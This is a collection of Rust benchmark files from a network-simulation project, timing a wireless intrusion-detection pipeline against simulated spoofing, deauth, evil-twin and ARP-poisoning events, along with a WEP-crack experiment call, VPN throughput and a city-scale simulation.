    /// The assembled pre-rewrite pipeline: ring -> boxed detectors in
    /// stage order -> per-event correlator drain.
    pub struct Pipeline {
        pub ring: SensorRing,
        detectors: Vec<Box<dyn Detector>>,
        correlator: Correlator,
        metrics: Metrics,
        scratch: Vec<RawAlert>,
    }

    impl Pipeline {
        pub fn new(
            authorized_aps: Vec<(MacAddr, u8)>,
            trusted: &[(Ipv4Addr, MacAddr)],
        ) -> Pipeline {
            let seq_cfg = SeqMonConfig::default();
            let mut arp = ArpSpoof {
                gratuitous_threshold: 4,
                window: SimDuration::from_secs(5),
                bindings: HashMap::new(),
                alerted_conflicts: HashSet::new(),
                gratuitous: HashMap::new(),
                alerted_bursts: HashSet::new(),
            };
            for &(ip, mac) in trusted {
                arp.bindings.insert(ip, mac);
            }
            Pipeline {
                ring: SensorRing::new(4096),
                detectors: vec![
                    Box::new(SeqControl {
                        monitor: SeqMonitor::new(seq_cfg),
                        emitted: 0,
                        ap_tas: HashSet::new(),
                    }),
                    Box::new(BeaconAudit {
                        authorized: authorized_aps,
                        owned_ssids: HashSet::new(),
                        alerted_spoof: HashSet::new(),
                        alerted_clone: HashSet::new(),
                    }),
                    Box::new(DeauthFlood {
                        threshold: 5,
                        window: SimDuration::from_secs(2),
                        per_ta: HashMap::new(),
                    }),
                    Box::new(RssiSplit {
                        swing_db: 12.0,
                        threshold: 4,
                        window: SimDuration::from_secs(2),
                        per_ta: HashMap::new(),
                    }),
                    Box::new(arp),
                ],
                correlator: Correlator::new(CorrelatorConfig::default()),
                metrics: Metrics::default(),
                scratch: Vec::new(),
            }
        }

        /// Drain the ring and dispatch every event through every boxed
        /// detector, draining alerts into the correlator per event —
        /// the seed engine's step loop.
        pub fn step(&mut self) {
            let mut events = self.ring.drain();
            events.sort_by_key(|e| e.at());
            for ev in &events {
                for det in &mut self.detectors {
                    det.on_event(ev, &mut self.scratch);
                }
                for alert in self.scratch.drain(..) {
                    self.correlator.ingest(&alert, &mut self.metrics);
                }
            }
        }

        pub fn incidents(&self) -> &[Incident] {
            self.correlator.incidents()
        }

        pub fn alerts_raw(&self) -> u64 {
            self.metrics.counter("wids.alerts_raw")
        }
    }
}

const CHANNELS: [u8; 3] = [1, 6, 11];
const CLIENTS_PER_SENSOR: u64 = 24;

fn chan(s: usize) -> u8 {
    CHANNELS[s % 3]
}

fn ap_mac(s: usize) -> MacAddr {
    MacAddr::local(9_000 + s as u64)
}

fn client_mac(s: usize, i: u64) -> MacAddr {
    MacAddr::local(1_000 * (s as u64 + 1) + i)
}

/// One sensor's deterministic event stream: mostly clean client data,
/// with every attack class the detector suite covers mixed in.
fn sensor_stream(s: usize, events: usize, seed: Seed) -> Vec<SensorEvent> {
    let mut rng = SplitMix64::new(seed.fork(s as u64 + 1).0);
    let sensor = SensorId(s as u16);
    let ch = chan(s);
    let ap = ap_mac(s);
    let ssid = format!("CORP-{s}");
    let spoofed = client_mac(s, 900);
    let flooder = client_mac(s, 901);
    let twin = client_mac(s, 902);
    let poisoner = client_mac(s, 903);
    let wired_hosts: Vec<MacAddr> = (0..8).map(|i| client_mac(s, 910 + i)).collect();

    let mut seq: HashMap<MacAddr, u16> = HashMap::new();
    let mut spoof_phase = 0u64;
    let mut churn_n = 0u64;
    let mut out = Vec::with_capacity(events);
    // Distinct nanosecond offsets per sensor keep merged timestamps
    // unique, so the global event order is unambiguous for both engines.
    let mut at = SimTime(1_000 + s as u64);

    for _ in 0..events {
        at = SimTime(at.0 + 120_000 + (rng.next_u64() % 160) * 1_000);
        let roll = rng.next_u64() % 100;
        let ev = if roll < 35 {
            // Clean client data: counters advance, RSSI wobbles inside
            // the plausible band.
            let ta = client_mac(s, rng.next_u64() % CLIENTS_PER_SENSOR);
            let sq = seq.entry(ta).or_insert(0);
            *sq = (*sq + 1 + (rng.next_u64() % 2) as u16) & 0x0FFF;
            dot11(
                sensor,
                at,
                ch,
                -48.0 - (rng.next_u64() % 6) as f64,
                ta,
                ap,
                *sq,
                Dot11Kind::Data { protected: true },
            )
        } else if roll < 85 {
            // The MAC randomizer: every frame a fresh forged source.
            // One frame per address alerts nothing; it exists to bloat
            // per-source state.
            churn_n += 1;
            dot11(
                sensor,
                at,
                ch,
                -70.0 - (rng.next_u64() % 5) as f64,
                MacAddr::local(100_000_000 * (s as u64 + 1) + churn_n),
                ap,
                (rng.next_u64() & 0x0FFF) as u16,
                Dot11Kind::Data { protected: false },
            )
        } else if roll < 90 {
            // The authorized AP beaconing where it belongs.
            let sq = seq.entry(ap).or_insert(0);
            *sq = (*sq + 1) & 0x0FFF;
            dot11(
                sensor,
                at,
                ch,
                -40.0 - (rng.next_u64() % 3) as f64,
                ap,
                ap,
                *sq,
                beacon(&ssid, ch),
            )
        } else if roll < 95 {
            // Interleaved MAC spoof: two radios behind one address, two
            // counters ~2048 apart, two RSSI floors ~22 dB apart.
            spoof_phase += 1;
            let base = if spoof_phase.is_multiple_of(2) {
                100
            } else {
                2_900
            };
            let rssi = if spoof_phase.is_multiple_of(2) {
                -40.0
            } else {
                -62.0
            };
            dot11(
                sensor,
                at,
                ch,
                rssi,
                spoofed,
                ap,
                ((base + spoof_phase / 2) & 0x0FFF) as u16,
                Dot11Kind::Data { protected: false },
            )
        } else if roll < 97 {
            // Deauth burst from one forged transmitter.
            dot11(
                sensor,
                at,
                ch,
                -50.0,
                flooder,
                ap,
                0,
                Dot11Kind::Deauth { reason: 7 },
            )
        } else if roll < 98 {
            // Wrong-channel clone of the authorized BSSID.
            let sq = seq.entry(twin).or_insert(2_000);
            *sq = (*sq + 1) & 0x0FFF;
            dot11(
                sensor,
                at,
                chan(s + 1),
                -55.0,
                ap,
                ap,
                *sq,
                beacon(&ssid, chan(s + 1)),
            )
        } else if roll < 99 {
            // Evil twin: unknown BSSID advertising the owned SSID.
            let sq = seq.entry(MacAddr::local(990)).or_insert(3_000);
            *sq = (*sq + 1) & 0x0FFF;
            dot11(sensor, at, ch, -58.0, twin, twin, *sq, beacon(&ssid, ch))
        } else {
            // Wired side: benign ARP chatter plus the cache poisoner
            // re-claiming the gateway with gratuitous replies.
            let poison = rng.next_u64().is_multiple_of(4);
            let (mac, ip) = if poison {
                (poisoner, Ipv4Addr::new(10, 0, s as u8, 1))
            } else {
                let i = (rng.next_u64() % wired_hosts.len() as u64) as usize;
                (wired_hosts[i], Ipv4Addr::new(10, 0, s as u8, 50 + i as u8))
            };
            SensorEvent::Arp(ArpEvent {
                sensor,
                at,
                src_mac: mac,
                op: rogue_netstack::arp::ArpOp::Reply,
                sender_mac: mac,
                sender_ip: ip,
                target_ip: Ipv4Addr::new(10, 0, s as u8, 255),
                gratuitous: poison,
            })
        };
        out.push(ev);
    }
    out
}

#[allow(clippy::too_many_arguments)]
fn dot11(
    sensor: SensorId,
    at: SimTime,
    channel: u8,
    rssi_dbm: f64,
    ta: MacAddr,
    bssid: MacAddr,
    seq: u16,
    kind: Dot11Kind,
) -> SensorEvent {
    SensorEvent::Dot11(Dot11Event {
        sensor,
        at,
        channel,
        rssi_dbm,
        ta,
        ra: MacAddr::BROADCAST,
        bssid,
        seq,
        retry: false,
        kind,
    })
}

fn beacon(ssid: &str, claimed: u8) -> Dot11Kind {
    Dot11Kind::Beacon {
        ssid: ssid.to_string(),
        claimed_channel: claimed,
        capability: 0,
        probe_resp: false,
    }
}

/// The merged multi-sensor workload, globally time-ordered, cut into
/// ring-sized slices both engines consume identically.
fn workload(sensors: usize, events_per_sensor: usize, seed: Seed) -> Vec<Vec<SensorEvent>> {
    let mut merged: Vec<SensorEvent> = Vec::with_capacity(sensors * events_per_sensor);
    for s in 0..sensors {
        merged.extend(sensor_stream(s, events_per_sensor, seed));
    }
    merged.sort_by_key(|e| e.at());
    merged.chunks(2_048).map(|c| c.to_vec()).collect()
}

fn wids_config(sensors: usize) -> WidsConfig {
    WidsConfig {
        authorized_aps: (0..sensors).map(|s| (ap_mac(s), chan(s))).collect(),
        trusted_bindings: (0..sensors)
            .map(|s| (Ipv4Addr::new(10, 0, s as u8, 1), MacAddr::local(254)))
            .collect(),
        ..WidsConfig::default()
    }
}

type IncidentRow = (IncidentCategory, MacAddr, SimTime, f64, u32);

fn rows(incidents: &[rogue_wids::Incident]) -> Vec<IncidentRow> {
    incidents
        .iter()
        .map(|i| (i.category, i.subject, i.opened_at, i.score, i.alerts_fused))
        .collect()
}

/// One timed run of the seed per-frame engine over pre-staged slices.
fn run_seed(sensors: usize, slices: Vec<Vec<SensorEvent>>) -> (f64, Vec<IncidentRow>, u64) {
    let trusted: Vec<(Ipv4Addr, MacAddr)> = (0..sensors)
        .map(|s| (Ipv4Addr::new(10, 0, s as u8, 1), MacAddr::local(254)))
        .collect();
    let mut pipe = seed::Pipeline::new(
        (0..sensors).map(|s| (ap_mac(s), chan(s))).collect(),
        &trusted,
    );
    let t0 = Instant::now();
    for slice in slices {
        for ev in slice {
            pipe.ring.push(ev);
        }
        pipe.step();
    }
    let dt = t0.elapsed().as_secs_f64();
    (dt, rows(pipe.incidents()), pipe.alerts_raw())
}

/// One timed run of the sharded batched engine over the same slices,
/// ingesting through per-sensor shard rings.
fn run_sharded(sensors: usize, slices: Vec<Vec<SensorEvent>>) -> (f64, Vec<IncidentRow>, u64, u64) {
    run_shaped(sensors, slices, EngineMode::default())
}

fn run_shaped(
    sensors: usize,
    slices: Vec<Vec<SensorEvent>>,
    engine: EngineMode,
) -> (f64, Vec<IncidentRow>, u64, u64) {
    let mut pipe = WidsPipeline::new(WidsConfig {
        engine,
        ..wids_config(sensors)
    });
    for _ in 0..sensors {
        pipe.new_sensor_id();
    }
    let t0 = Instant::now();
    for slice in slices {
        let mut last = SimTime::ZERO;
        for ev in slice {
            last = ev.at();
            let sensor = match &ev {
                SensorEvent::Dot11(e) => e.sensor,
                SensorEvent::Arp(e) => e.sensor,
            };
            pipe.sensor_ring(sensor).push(ev);
        }
        pipe.step(last);
    }
    let dt = t0.elapsed().as_secs_f64();
    let raw = pipe.metrics().counter("wids.alerts_raw");
    (dt, rows(pipe.incidents()), raw, pipe.state_evictions())
}

struct Sweep {
    sensors: usize,
    events: usize,
    seed_eps: f64,
    sharded_eps: f64,
    speedup: f64,
    incidents: usize,
    incidents_per_s: f64,
    /// Raw-alert count difference vs the baseline (latch re-fires after
    /// bounded-table eviction; incident lists are asserted identical).
    raw_drift: u64,
}

fn measure(sensors: usize, events_per_sensor: usize, reps: usize, smoke: bool) -> Sweep {
    let slices = workload(sensors, events_per_sensor, Seed(0x3D1_BEEF));
    let events: usize = slices.iter().map(Vec::len).sum();

    let (mut seed_dt, mut sharded_dt) = (f64::INFINITY, f64::INFINITY);
    let (mut seed_out, mut sharded_out) = (None, None);
    for _ in 0..reps {
        let (dt, inc, raw) = run_seed(sensors, slices.clone());
        seed_dt = seed_dt.min(dt);
        seed_out = Some((inc, raw));
        let (dt, inc, raw, evictions) = run_sharded(sensors, slices.clone());
        sharded_dt = sharded_dt.min(dt);
        // The randomizer must actually pressure the bounded tables —
        // otherwise the comparison isn't exercising the architecture.
        // (Smoke streams are too short to overflow a 4-way group.)
        assert!(
            smoke || evictions > 0,
            "churn must recycle bounded-table slots"
        );
        sharded_out = Some((inc, raw));
    }
    let (seed_inc, seed_raw) = seed_out.unwrap();
    let (sharded_inc, sharded_raw) = sharded_out.unwrap();
    assert!(!sharded_inc.is_empty(), "workload must open incidents");
    assert_eq!(
        seed_inc, sharded_inc,
        "engines diverged: per-frame baseline vs sharded incidents"
    );
    // Raw alert counts are allowed a whisker of drift. Under churn
    // pressure the bounded tables may evict a latched alarm's slot and
    // re-fire the latch on the attacker's next frame; the unbounded
    // baseline remembers every latch forever. The duplicate never
    // reaches an incident (the lists above already matched bit for
    // bit) but the wire counter sees it — that is the memory/fidelity
    // trade the bounded engine makes, reported, not hidden.
    let raw_drift = sharded_raw.abs_diff(seed_raw);
    assert!(
        raw_drift <= 2,
        "raw alert drift {raw_drift} exceeds latch re-fires \
         (baseline {seed_raw}, sharded {sharded_raw})"
    );

    let incidents = sharded_inc.len();
    Sweep {
        sensors,
        events,
        seed_eps: events as f64 / seed_dt,
        sharded_eps: events as f64 / sharded_dt,
        speedup: seed_dt / sharded_dt,
        incidents,
        incidents_per_s: incidents as f64 / sharded_dt,
        raw_drift,
    }
}

fn write_json(path: &Path, sweeps: &[Sweep], mode: &str) -> std::io::Result<()> {
    let mut f = std::fs::File::create(path)?;
    writeln!(f, "{{")?;
    writeln!(f, "  \"bench\": \"wids_throughput\",")?;
    writeln!(f, "  \"mode\": \"{mode}\",")?;
    writeln!(
        f,
        "  \"baseline\": \"seed per-frame engine: boxed trait-object dispatch, SipHash map state\","
    )?;
    writeln!(f, "  \"sweep\": [")?;
    for (i, s) in sweeps.iter().enumerate() {
        let comma = if i + 1 < sweeps.len() { "," } else { "" };
        writeln!(
            f,
            "    {{\"sensors\": {}, \"events\": {}, \"baseline_eps\": {:.0}, \
             \"sharded_eps\": {:.0}, \"speedup\": {:.2}, \"incidents\": {}, \
             \"incidents_per_s\": {:.1}, \"raw_alert_drift\": {}}}{comma}",
            s.sensors,
            s.events,
            s.seed_eps,
            s.sharded_eps,
            s.speedup,
            s.incidents,
            s.incidents_per_s,
            s.raw_drift
        )?;
    }
    writeln!(f, "  ],")?;
    let at8 = sweeps
        .iter()
        .find(|s| s.sensors == 8)
        .map(|s| s.speedup)
        .unwrap_or(0.0);
    writeln!(f, "  \"speedup_at_8_sensors\": {at8:.2}")?;
    writeln!(f, "}}")?;
    Ok(())
}

fn main() {
    let smoke = std::env::args().any(|a| a == "--test");
    if std::env::args().any(|a| a == "--shapes") {
        // Diagnostic sweep of engine shapes (not part of the artifact).
        let slices = workload(8, 150_000, Seed(0x3D1_BEEF));
        let (dt, _, _) = run_seed(8, slices.clone());
        println!("serial seed engine: {:.0} ev/s", 1_200_000.0 / dt);
        let (dt, _, _, _) = run_shaped(8, slices.clone(), EngineMode::Serial);
        println!("typed serial path: {:.0} ev/s", 1_200_000.0 / dt);
        for (shards, batch) in [
            (8, 1024),
            (8, 2048),
            (1, 2048),
            (4, 2048),
            (16, 1024),
            (8, 512),
        ] {
            let (dt, _, _, _) =
                run_shaped(8, slices.clone(), EngineMode::Sharded { shards, batch });
            println!(
                "shards={shards} batch={batch}: {:.0} ev/s",
                1_200_000.0 / dt
            );
        }
        return;
    }
    let (events_per_sensor, reps, mode) = if smoke {
        (4_000, 1, "smoke")
    } else {
        (500_000, 3, "full")
    };

    println!("WIDS throughput: sharded batched engine vs seed per-frame engine ({mode})");
    println!("| sensors | events | baseline ev/s | sharded ev/s | speedup | incidents |");
    println!("|---------|--------|---------------|--------------|---------|-----------|");
    let mut sweeps = Vec::new();
    for sensors in [1, 2, 4, 8] {
        let s = measure(sensors, events_per_sensor, reps, smoke);
        println!(
            "| {} | {} | {:.0} | {:.0} | {:.2}x | {} |",
            s.sensors, s.events, s.seed_eps, s.sharded_eps, s.speedup, s.incidents
        );
        sweeps.push(s);
    }

    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../BENCH_wids_throughput.json");
    write_json(&path, &sweeps, mode).expect("write bench json");
    println!("wrote {}", path.display());
}
