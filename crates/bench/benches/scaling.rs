//! Thread-scaling sweep for the replication executor: threads ∈
//! {1, 2, 4, 8} × a reps sweep, timed over E4 (WEP crack — pure
//! CPU-bound crypto) and E10 (WIDS pipeline — allocation-heavy event
//! processing). Reported as wall-clock plus speedup over the 1-thread
//! run of the same workload.
//!
//! ```text
//! cargo bench --offline -p rogue-bench --bench scaling
//! ```
//!
//! Determinism note: every cell of this sweep produces byte-identical
//! report tables (that is what `tests/report_determinism.rs` asserts);
//! only the wall-clock changes with the thread count. On hosts with
//! fewer hardware threads than a row requests, the pool oversubscribes
//! and the speedup column shows it — the table prints the hardware
//! parallelism so such rows are interpretable.

use rogue_bench::{report_e10, report_e4};
use rogue_core::report::Table;
use std::time::Instant;

struct Workload {
    name: &'static str,
    run: fn(usize),
    reps_sweep: &'static [usize],
}

fn run_e4(reps: usize) {
    criterion::black_box(report_e4(reps));
}

fn run_e10(reps: usize) {
    criterion::black_box(report_e10(reps));
}

fn main() {
    let hw = std::thread::available_parallelism()
        .map(|n| n.get())
        .unwrap_or(1);
    println!("hardware threads: {hw}");
    if hw < 4 {
        println!("note: <4 hardware threads — speedups above {hw}x are not reachable here");
    }
    let workloads = [
        Workload {
            name: "E4 WEP crack (CPU-bound)",
            run: run_e4,
            reps_sweep: &[4, 8],
        },
        Workload {
            name: "E10 WIDS pipeline",
            run: run_e10,
            reps_sweep: &[5, 10],
        },
    ];
    for w in &workloads {
        println!("\n{}", w.name);
        let mut table = Table::new(&["threads", "reps", "wall s", "speedup vs 1T"]);
        for &reps in w.reps_sweep {
            // Warm-up outside the timed region: first use spawns pool
            // workers and faults in code paths.
            rayon::with_num_threads(2, || (w.run)(reps.min(2)));
            let mut baseline = f64::NAN;
            for threads in [1usize, 2, 4, 8] {
                let t0 = Instant::now();
                rayon::with_num_threads(threads, || (w.run)(reps));
                let secs = t0.elapsed().as_secs_f64();
                if threads == 1 {
                    baseline = secs;
                }
                table.row(&[
                    threads.to_string(),
                    reps.to_string(),
                    format!("{secs:.3}"),
                    format!("{:.2}x", baseline / secs),
                ]);
            }
        }
        print!("{}", table.render());
    }
}
