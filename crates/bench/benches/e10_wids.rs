//! E10 bench — the streaming WIDS: times one full pipeline replication
//! (sensors → detectors → correlation → scoring) and prints the score
//! card once.

use criterion::{criterion_group, criterion_main, Criterion};
use rogue_core::experiments::e10_wids::{run_wids_once, WidsScenario};
use rogue_sim::Seed;

fn bench(c: &mut Criterion) {
    println!(
        "\nE10: streaming WIDS score card\n{}\n",
        rogue_bench::report_e10(2).body
    );
    let mut g = c.benchmark_group("e10_wids");
    g.sample_size(10);
    let mut seed = 0u64;
    g.bench_function("rogue_ap_deauth_replication", |b| {
        b.iter(|| {
            seed += 1;
            run_wids_once(WidsScenario::RogueApDeauth, Seed(seed))
        })
    });
    g.bench_function("clean_replication", |b| {
        b.iter(|| {
            seed += 1;
            run_wids_once(WidsScenario::Clean, Seed(seed))
        })
    });
    g.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
