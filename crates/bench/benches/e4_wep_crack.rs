//! E4 bench — §4 premise: times a full FMS crack (WEP-40 and WEP-104)
//! and prints the success curves once.

use criterion::{criterion_group, criterion_main, Criterion};
use rogue_core::experiments::e4_wep::{crack_once, random_key};
use rogue_sim::{Seed, SimRng};

fn bench(c: &mut Criterion) {
    println!(
        "\nE4: §4 premise — Airsnort/FMS WEP key recovery\n{}\n",
        rogue_bench::report_e4(8).body
    );
    let mut g = c.benchmark_group("e4_wep_crack");
    g.sample_size(10);
    for key_len in [5usize, 13] {
        let mut rng = SimRng::new(Seed(4));
        let key = random_key(&mut rng, key_len);
        g.bench_function(format!("sec4_fms_crack_wep{}", key_len * 8), |b| {
            b.iter(|| crack_once(&key, 240))
        });
    }
    g.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
