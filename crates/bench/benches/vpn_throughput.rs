//! vpn_throughput — records/sec through the full VPN record path.
//!
//! Drives one established client/server session pair exactly the way
//! the tunnel does in steady state: `seal_record` produces the encoded
//! wire record in a single buffer, the receiver `Message::decode`s it
//! (ciphertext as a zero-copy slice) and `open`s it in place. Three
//! figures per payload size:
//!
//! * **records/sec** — wall-clock seal → decode → open throughput.
//! * **MB/sec** — the same, scaled by payload size.
//! * **bytes copied / record** — payload bytes `open` had to copy
//!   because the record buffer was still shared, straight from the
//!   `SessionCrypto::bytes_copied` counter; the steady-state path
//!   decrypts in place and reports 0. A pointer-containment audit
//!   cross-checks that the returned plaintext aliases the wire buffer.
//!
//! Results (plus the committed pre-optimization baseline) are written
//! to `BENCH_vpn_throughput.json` at the workspace root so CI can
//! archive the perf trajectory per PR. `-- --test` runs a shortened
//! smoke sweep; the JSON is written either way.

use std::time::Instant;

use criterion::black_box;
use rogue_sim::{Seed, SimRng};
use rogue_vpn::protocol::{gen_keypair, Message, SessionCrypto};

/// Inner-packet sizes swept: tiny (ACK-ish), small data, and the
/// near-MTU size that dominates a bulk download through the tunnel.
const PAYLOAD_LENS: [usize; 3] = [64, 256, 1400];

/// Pre-optimization baseline, measured on this machine at the commit
/// that introduced this bench (byte-at-a-time ChaCha20/HMAC, per-record
/// ipad/opad hashing, seal→Vec→encode→Vec copy chain):
/// (payload_len, records_per_sec, bytes_copied_per_record). The old
/// path copied the payload at seal (`to_vec`), at encode (ciphertext
/// into the wire Vec) and at open (ciphertext into the plaintext Vec).
const BASELINE: [(usize, f64, f64); 3] = [
    (64, 296184.0, 192.0),
    (256, 175631.0, 768.0),
    (1400, 50520.0, 4200.0),
];

struct Sweep {
    payload_len: usize,
    records_per_sec: f64,
    mb_per_sec: f64,
    bytes_copied_per_record: f64,
}

fn established_pair() -> (SessionCrypto, SessionCrypto) {
    let mut rng = SimRng::new(Seed(1));
    let ckp = gen_keypair(&mut rng);
    let skp = gen_keypair(&mut rng);
    let shared = ckp.agree(&skp.public).unwrap();
    let nc = [1u8; 16];
    let ns = [2u8; 16];
    (
        SessionCrypto::derive(&shared, &nc, &ns, true),
        SessionCrypto::derive(&shared, &nc, &ns, false),
    )
}

/// One timed run: `records` records sealed by the client and opened by
/// the server. Returns (elapsed seconds, bytes copied at open).
fn run(payload_len: usize, records: usize) -> (f64, u64) {
    let (mut c, mut s) = established_pair();
    let payload = vec![0xA5u8; payload_len];
    let start = Instant::now();
    for i in 0..records {
        let rec = c.seal_record(&payload);
        let base = rec.as_ptr() as usize;
        let Some(Message::Data {
            seq,
            tag,
            ciphertext,
        }) = Message::decode(&rec)
        else {
            unreachable!()
        };
        drop(rec); // receiver owns the record now — steady state
        let pt = s.open(seq, &tag, ciphertext).expect("valid record");
        // Cross-check the counter: the plaintext must alias the single
        // record allocation (in-place decrypt), never a fresh copy.
        if i == 0 && payload_len > 0 {
            let p = pt.as_ptr() as usize;
            assert!(
                (base..base + 21 + payload_len).contains(&p),
                "open copied despite unique ownership"
            );
        }
        black_box(&pt);
    }
    (start.elapsed().as_secs_f64(), s.bytes_copied)
}

fn sweep(records: usize, reps: usize) -> Vec<Sweep> {
    PAYLOAD_LENS
        .iter()
        .map(|&payload_len| {
            let mut best = f64::INFINITY;
            let mut copied = 0u64;
            for _ in 0..reps {
                let (elapsed, c) = run(payload_len, records);
                best = best.min(elapsed);
                copied = c;
            }
            let records_per_sec = records as f64 / best;
            Sweep {
                payload_len,
                records_per_sec,
                mb_per_sec: records_per_sec * payload_len as f64 / 1e6,
                bytes_copied_per_record: copied as f64 / records as f64,
            }
        })
        .collect()
}

fn write_json(path: &std::path::Path, records: usize, results: &[Sweep]) {
    let mut rows = Vec::new();
    for s in results {
        let (_, base_rps, base_copied) = BASELINE
            .iter()
            .find(|(l, _, _)| *l == s.payload_len)
            .copied()
            .unwrap_or((s.payload_len, 0.0, 0.0));
        let speedup = if base_rps > 0.0 {
            s.records_per_sec / base_rps
        } else {
            0.0
        };
        rows.push(format!(
            concat!(
                "    {{\"payload_len\": {}, \"records_per_sec\": {:.0}, ",
                "\"mb_per_sec\": {:.1}, \"bytes_copied_per_record\": {:.1}, ",
                "\"baseline_records_per_sec\": {:.0}, ",
                "\"baseline_bytes_copied_per_record\": {:.1}, ",
                "\"speedup\": {:.2}}}"
            ),
            s.payload_len,
            s.records_per_sec,
            s.mb_per_sec,
            s.bytes_copied_per_record,
            base_rps,
            base_copied,
            speedup,
        ));
    }
    let json = format!(
        concat!(
            "{{\n  \"bench\": \"vpn_throughput\",\n",
            "  \"records_per_run\": {},\n",
            "  \"results\": [\n{}\n  ]\n}}\n"
        ),
        records,
        rows.join(",\n")
    );
    std::fs::write(path, json).expect("write BENCH_vpn_throughput.json");
}

fn main() {
    let smoke = std::env::args().any(|a| a == "--test");
    let (records, reps) = if smoke { (500, 2) } else { (20000, 5) };

    let results = sweep(records, reps);
    println!("vpn_throughput ({records} records/run)");
    for s in &results {
        println!(
            "  payload={:5}  {:>10.0} records/s   {:>8.1} MB/s   {:>6.1} bytes copied/record",
            s.payload_len, s.records_per_sec, s.mb_per_sec, s.bytes_copied_per_record
        );
    }

    let path =
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../BENCH_vpn_throughput.json");
    write_json(&path, records, &results);
    println!("wrote {}", path.display());
}
