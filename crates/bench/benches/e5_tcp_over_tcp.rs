//! E5 bench — §5.3: times one tunnel run under loss per encapsulation
//! and prints the comparison tables once.

use criterion::{criterion_group, criterion_main, Criterion};
use rogue_core::experiments::e5_tcp_over_tcp::{tunnel_comparison, InnerFlow};
use rogue_sim::Seed;

fn bench(c: &mut Criterion) {
    println!(
        "\nE5: §5.3 — TCP-over-TCP penalty\n{}\n",
        rogue_bench::report_e5(2).body
    );
    let mut g = c.benchmark_group("e5_tcp_over_tcp");
    g.sample_size(10);
    let mut seed = 0u64;
    g.bench_function("sec53_udp_over_both_transports_5pct_loss", |b| {
        b.iter(|| {
            seed += 1;
            tunnel_comparison(InnerFlow::UdpCbr, &[0.05], 1, Seed(seed))
        })
    });
    g.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
