//! city_scale — the sharded event loop at city scale (≥100k radios).
//!
//! City-wide topology: radios on a uniform 30 m grid covering ~9.5 km
//! per side. Every 25th grid position (a 150 m AP lattice) carries an
//! AP on a channel drawn round-robin from the non-overlapping
//! {1, 6, 11} set; every other position is a station scanning for the
//! city SSID and associating with whichever AP beacons loudest. The
//! first simulated seconds are the busiest this world ever gets: every
//! station sweeps channels, then the auth/assoc exchanges pile onto the
//! APs while beacons keep firing in 100 ms lockstep — exactly the
//! synchronized completion bursts the sharded loop's parallel plan
//! phase feeds on.
//!
//! Protocol: run the world serially, then re-run it under 2 and 8
//! shards and **assert the MAC trace and medium counters are
//! bit-identical before reporting any number**. Only then print
//! events/s for each mode and the sharded-vs-serial speedup. A sharded
//! run that diverges by one bit is a correctness bug, not a data point
//! (DESIGN.md §15).
//!
//! Results go to `BENCH_city_scale.json` at the workspace root so CI
//! can archive the perf trajectory per PR. `-- --test` runs a
//! downscaled smoke sweep (same assertions, ~2k radios); the JSON is
//! written either way.

use std::hash::{DefaultHasher, Hash, Hasher};
use std::net::Ipv4Addr;
use std::time::Instant;

use rogue_core::world::World;
use rogue_dot11::{ApConfig, MacAddr, StaConfig};
use rogue_phy::{MediumParams, Pos};
use rogue_sim::{Seed, SimDuration, SimTime};

/// Grid pitch in metres (decode horizon at 15 dBm is ~200 m).
const PITCH_M: f64 = 30.0;

/// AP lattice stride in grid cells: one AP per 5x5 block (150 m pitch).
const AP_STRIDE: usize = 5;

/// One measured run.
struct Mode {
    label: String,
    shards: usize,
    events: u64,
    elapsed_s: f64,
    events_per_sec: f64,
    windows: u64,
    plans_parallel: u64,
    plans_stale: u64,
    fingerprint: (u64, usize, u64, u64, u64),
    profile: rogue_sim::profile::Snapshot,
}

/// Build the city: `side * side` radios, APs on the lattice, stations
/// everywhere else.
fn build(side: usize, seed: Seed) -> World {
    let mut w = World::new(seed, MediumParams::default());
    let mut idx = 0u64;
    for gy in 0..side {
        for gx in 0..side {
            let pos = Pos::new(gx as f64 * PITCH_M, gy as f64 * PITCH_M);
            let is_ap = gx % AP_STRIDE == 2 && gy % AP_STRIDE == 2;
            let ip = Ipv4Addr::new(10, (idx >> 16) as u8, (idx >> 8) as u8, idx as u8);
            let mac = MacAddr::local(idx + 1);
            if is_ap {
                let channel = [1u8, 6, 11][(gx / AP_STRIDE + gy / AP_STRIDE) % 3];
                let n = w.add_node(&format!("ap{idx}"));
                // Independent beacon phases, as on a real street: APs
                // come up spread across one beacon interval (97 is
                // coprime to 100, so the offsets cover it uniformly).
                // Perfectly synchronized beacons would make every AP in
                // the city a time-overlapping interferer of every other
                // — a quadratic blowup no deployment exhibits.
                let start = SimTime::from_millis((idx * 97) % 100);
                w.add_ap_local_starting_at(
                    n,
                    pos,
                    15.0,
                    ApConfig::typical(mac, "CITY", channel, None),
                    ip,
                    8,
                    start,
                );
            } else {
                let n = w.add_node(&format!("sta{idx}"));
                // Stations power on spread across two scan-dwell
                // cycles (719 is coprime to 720) for the same reason
                // the APs stagger: devices joining a city network do
                // not finish their channel sweeps in unison, and a
                // synchronized association storm would make every
                // in-flight frame an interferer of every other.
                let start = SimTime::from_millis((idx * 719) % 720);
                w.add_sta_starting_at(
                    n,
                    pos,
                    15.0,
                    StaConfig::typical(mac, "CITY", None),
                    ip,
                    8,
                    start,
                );
            }
            idx += 1;
        }
    }
    w
}

/// Run one mode to `horizon` and fingerprint everything observable:
/// the full MAC event trace plus the medium's counters.
fn run(side: usize, shards: usize, horizon: SimTime, seed: Seed) -> Mode {
    let mut w = build(side, seed);
    if shards > 1 {
        w.set_shards(shards);
        w.set_shard_window(SimDuration::from_millis(1));
    }
    let start = Instant::now();
    w.run_until(horizon);
    let elapsed = start.elapsed().as_secs_f64();

    let mut h = DefaultHasher::new();
    for (t, n, e) in &w.mac_events {
        (t.as_nanos(), n.0, format!("{e:?}")).hash(&mut h);
    }
    let events = w.events_dispatched();
    let (windows, planned, stale) = (
        w.metrics.counter("sim.windows"),
        w.metrics.counter("sim.plans_parallel"),
        w.metrics.counter("sim.plans_stale"),
    );
    Mode {
        label: if shards > 1 {
            format!("sharded x{shards}")
        } else {
            "serial".to_string()
        },
        shards,
        events,
        elapsed_s: elapsed,
        events_per_sec: events as f64 / elapsed,
        windows,
        plans_parallel: planned,
        plans_stale: stale,
        fingerprint: (
            h.finish(),
            w.mac_events.len(),
            w.medium.frames_sent,
            w.medium.halfduplex_misses,
            w.medium.sinr_drops,
        ),
        profile: w.profile_snapshot(),
    }
}

/// Render a profiler snapshot as a JSON object: per-phase and per-kind
